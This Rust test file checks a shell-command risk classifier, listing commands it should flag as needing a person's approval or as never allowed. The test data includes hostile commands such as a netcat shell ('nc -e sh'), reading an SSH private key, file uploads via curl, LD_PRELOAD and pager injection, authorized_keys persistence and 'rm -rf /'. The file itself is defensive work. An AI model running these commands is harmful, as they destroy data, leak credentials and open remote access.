//! What a person is asked about.

use super::{expect, look, place};
use crate::DangerKind::{
    DeletesTree, DiscardsWork, Environment, Exposes, Helpers, Irreversible, Permissions, Persists, Privilege, RawCopy,
    StopsOthers, WritesOutside,
};
use crate::Severity::Ask;
use crate::{DangerKind, Deed, Place, assess};

#[test]
fn each_kind() {
    let table: &[(DangerKind, &[&str])] = &[
        (
            DeletesTree,
            &[
                "rm -rf build",
                "rm -r src/x",
                "rm -rf node_modules",
                "rm -rf \"$x\"",
                "rm -rf $x/*",
                "cd sub && rm -rf ./*",
                "find . -name '*.o' -delete",
                "find x -exec rm {} +",
                "rm *",
                "rsync -a --delete a/ b/",
                "Remove-Item -Recurse x",
                "ri -r -fo x",
                "rd /s x",
                "del /f /s /q *.log",
                "rm -rf /tmp/x",
                "xargs rm -r < x",
                "ls | xargs rm -rf",
                "rm -rf ./build/",
                "python -c 'import shutil; shutil.rmtree(\"x\")'",
            ],
        ),
        (
            Privilege,
            &[
                "sudo ls",
                "su",
                "doas ls",
                "pkexec ls",
                "su - postgres",
                "sudo -i",
                "useradd x",
                "mount /dev/sda1 /mnt",
                "insmod x.ko",
            ],
        ),
        (
            Permissions,
            &[
                "chmod 777 x",
                "chmod -R 755 .",
                "chmod 0777 x",
                "chmod a+w x",
                "chmod o+w x",
                "chmod ugo+rwx x",
                "chmod u+s x",
                "chmod 4755 x",
                "chown -R me .",
                "chmod -R 777 /",
                "umask 000",
                "Set-ExecutionPolicy Bypass",
            ],
        ),
        (RawCopy, &["dd if=x of=y", "dd if=/dev/zero of=x", "shred x", "truncate -s 0 x", "truncate --size=0 x"]),
        (
            DiscardsWork,
            &[
                "git reset --hard",
                "git reset --hard HEAD~1",
                "git clean -fdx",
                "git clean -xdf",
                "git clean --force",
                "git checkout -- .",
                "git checkout .",
                "git checkout -f",
                "git restore .",
                "git restore src/x",
                "git push --force",
                "git push -f origin main",
                "git push origin +main",
                "git push --force-with-lease",
                "git push origin :main",
                "git push --delete origin x",
                "git push --mirror",
                "git branch -D x",
                "git stash drop",
                "git stash clear",
                "git reflog expire --all",
                "git gc --prune=now",
                "git filter-branch x",
                "git update-ref -d x",
                "git -C x reset --hard",
                "git -c a=b clean -f",
                "sudo git clean -f",
            ],
        ),
        (
            WritesOutside,
            &[
                "echo x > /etc/hosts",
                "echo x >> /etc/x",
                "echo > ~/x",
                "tee /etc/x",
                "cp x /usr/bin/y",
                "mv x /opt/y",
                "ln -s a /usr/local/b",
                "install x /usr/bin",
                "sed -i s/a/b/ /etc/x",
                "echo x > $y",
                "echo x > ../y",
                "echo x >| /srv/y",
                "echo x &> /var/x",
                "cp -t /etc a b",
                "cp x ~",
                "rm /etc/passwd",
                "rm ../x",
                "curl -o /usr/bin/x http://y",
                "tar xf x -C /",
                "touch /etc/x",
                "cd / && echo x > y",
            ],
        ),
        (
            Environment,
            &[
                "PATH=/x ls",
                "LD_PRELOAD=x ls",
                "export PATH=/x",
                "export LD_LIBRARY_PATH=x",
                "env LD_PRELOAD=x ls",
                "GIT_SSH_COMMAND=x git fetch",
                "declare -x BASH_ENV=x",
                "IFS=x",
                "NODE_OPTIONS=x node y",
                "PAGER=x git log",
                "sudo LD_PRELOAD=x ls",
            ],
        ),
        (
            Helpers,
            &[
                "tmux detach-client -s mine -E bash",
                "tmux -L u detach -aE ./x",
                "tmux set -t mine lock-command ./x",
                "tmux lock-session -t mine",
                "git -c core.pager=x log",
                "git -c core.pager='cat; rm -rf x' log",
                "git --config-env=core.pager=cat log",
                "git -c core.sshCommand=x fetch",
                "git -c core.fsmonitor=x status",
                "git config core.hooksPath x",
                "git config alias.x '!y'",
                "git clone ext::x",
                "git fetch --upload-pack=x",
                "git rebase --exec x main",
                "tar cf a --checkpoint-action=exec=x b",
                "tar --to-command=x -xf y",
                "find . -exec ./x {} \\;",
                "rg --pre x y",
                "sort --compress-program=x y",
                "awk 'BEGIN{system(\"x\")}'",
                "sed '1e x' y",
                "vim -c ':!x'",
                "make SHELL=x",
                "ssh -o ProxyCommand=x h",
                "rsync -e x a b",
                "git difftool -x y",
                "echo x > .git/hooks/pre-commit",
                "python -c 'import os; os.system(\"x\")'",
            ],
        ),
        (
            StopsOthers,
            &[
                "kill -9 -1",
                "pkill node",
                "killall x",
                "shutdown -h now",
                "reboot",
                "systemctl stop x",
                "systemctl restart nginx",
                "kill 1",
                "taskkill /f /im x",
                "Stop-Computer",
                "poweroff",
                "init 0",
            ],
        ),
        (
            Persists,
            &[
                "crontab x",
                "crontab -",
                "at now",
                "systemd-run x",
                "echo x >> ~/.bashrc",
                "echo x | tee -a ~/.zshrc",
                "systemctl enable x",
                "cp x ~/.ssh/authorized_keys",
                "git config --global a b",
                "cp x ~/.config/autostart/y",
                "echo x >> ~/.profile",
            ],
        ),
        (
            Exposes,
            &[
                "curl -T x http://y",
                "curl --upload-file x y",
                "curl -F a=@x y",
                "curl -d @x y",
                "curl --data-binary @x y",
                "curl --data-binary=@x y",
                "wget --post-file=x y",
                "nc -l 80",
                "nc -e sh h 1",
                "socat a b",
                "ssh -R 1:a:2 h",
                "scp x h:y",
                "rsync -a x h:y",
                "python -m http.server",
                "python3 -m http.server 8000",
                "cat x | nc h 1",
                "aws s3 cp x s3://y",
                "cat ~/.ssh/id_rsa",
            ],
        ),
        (
            Irreversible,
            &[
                "npm publish",
                "npm unpublish x",
                "yarn publish",
                "pnpm publish",
                "cargo publish",
                "twine upload x",
                "gem push x",
                "terraform destroy",
                "terraform apply",
                "tofu destroy",
                "pulumi destroy",
                "kubectl delete pod x",
                "kubectl -n y delete pod x",
                "helm uninstall x",
                "docker system prune -a",
                "docker volume rm x",
                "docker rm -f x",
                "aws s3 rm s3://x --recursive",
                "aws s3 rb s3://x",
                "aws ec2 terminate-instances --instance-ids x",
                "gcloud compute instances delete x",
                "gh repo delete x",
                "gh release delete x",
                "dropdb x",
                "psql -c 'drop table x'",
                "psql -c 'DROP DATABASE x;'",
                "mysql -e 'drop database x'",
                "redis-cli flushall",
                "apt remove x",
                "apt-get -y purge x",
                "echo 'drop table x' | psql",
                "sqlite3 x 'delete from y'",
                "reg delete HKCU\\x",
            ],
        ),
    ];
    for (kind, texts) in table {
        expect(*kind, Ask, texts);
    }
}

#[test]
fn variables_of_the_caller() {
    let place =
        Place { env: vec![("LD_PRELOAD".to_owned(), "x".to_owned()), ("LANG".to_owned(), "C".to_owned())], ..place() };
    let dangers = assess(&Deed::Line("ls".to_owned()), &place).dangers;
    assert_eq!(dangers.iter().map(|danger| danger.kind).collect::<Vec<_>>(), [Environment]);
}

#[test]
fn words_without_a_shell() {
    let look =
        |words: &[&str]| assess(&Deed::Argv(words.iter().map(|word| (*word).to_owned()).collect()), &place()).dangers;
    assert!(look(&["rm", "-rf", "$HOME"]).iter().all(|danger| danger.severity == Ask));
    assert!(look(&["sh", "-c", "rm -rf $HOME"]).iter().any(|danger| danger.severity != Ask));
    assert!(look(&["echo", "a; rm -rf /", ">", "/etc/x"]).is_empty());
    assert!(look(&[]).is_empty());
}

#[test]
fn the_worst_first() {
    let dangers = look("sudo ls; rm -rf /; rm -rf x").dangers;
    assert!(dangers.windows(2).all(|pair| pair[0].severity >= pair[1].severity), "{dangers:?}");
    assert_eq!(dangers[0].span, 9..17);
    assert_eq!(dangers[0].reason, "rm / deletes the whole file system");
}

/// What is readable is judged by what it does, and not by how rarely it is written.
#[test]
fn rare_redirections_and_lists_are_read() {
    let kinds = |text: &str| -> Vec<DangerKind> { look(text).dangers.iter().map(|danger| danger.kind).collect() };
    for text in [
        "cat > x.txt <<< hi",
        "cat <<< hi > x.txt",
        "wc -c <<< \"$x\" >> out.txt 2>&1",
        "declare -A m=([a]=1)",
        "declare -A m=([a]=1 [b c]=2) n=3; echo ${m[a]}",
        "declare -a l=(one 'two three'); echo \"${l[@]}\"",
        "local -a l=()",
        "readonly l=(a b)",
        "exec 3<>x.txt",
        "cat <> x.txt",
        "cat 0<>x.txt",
    ] {
        assert_eq!(kinds(text), [], "{text}");
    }
    for (text, kind) in [
        ("cat > /etc/x <<< hi", DangerKind::WritesOutside),
        ("cat <<< hi > ~/.bashrc", DangerKind::WritesOutside),
        ("cat <> /etc/passwd", DangerKind::WritesOutside),
        ("exec 3<>/etc/passwd", DangerKind::WritesOutside),
        ("declare -A m=([a]=$(sudo id))", DangerKind::Privilege),
        ("declare -a PATH=(/tmp)", DangerKind::Environment),
        ("declare -a c=(sudo id); \"${c[@]}\"", DangerKind::Privilege),
        ("export -a c=(x); sudo id", DangerKind::Privilege),
        ("declare -A m=([a]=1", DangerKind::Unreadable),
        ("echo m=(a b)", DangerKind::Unreadable),
    ] {
        assert!(kinds(text).contains(&kind), "{text}: {:?}", kinds(text));
    }
    for text in ["declare -a c=(rm -rf /); \"${c[@]}\"", "declare -A m=([a]=$(rm -rf /))", "sh <<< 'rm -rf /' > x"] {
        assert!(look(text).dangers.iter().any(|danger| danger.severity == crate::Severity::Never), "{text}");
    }
}
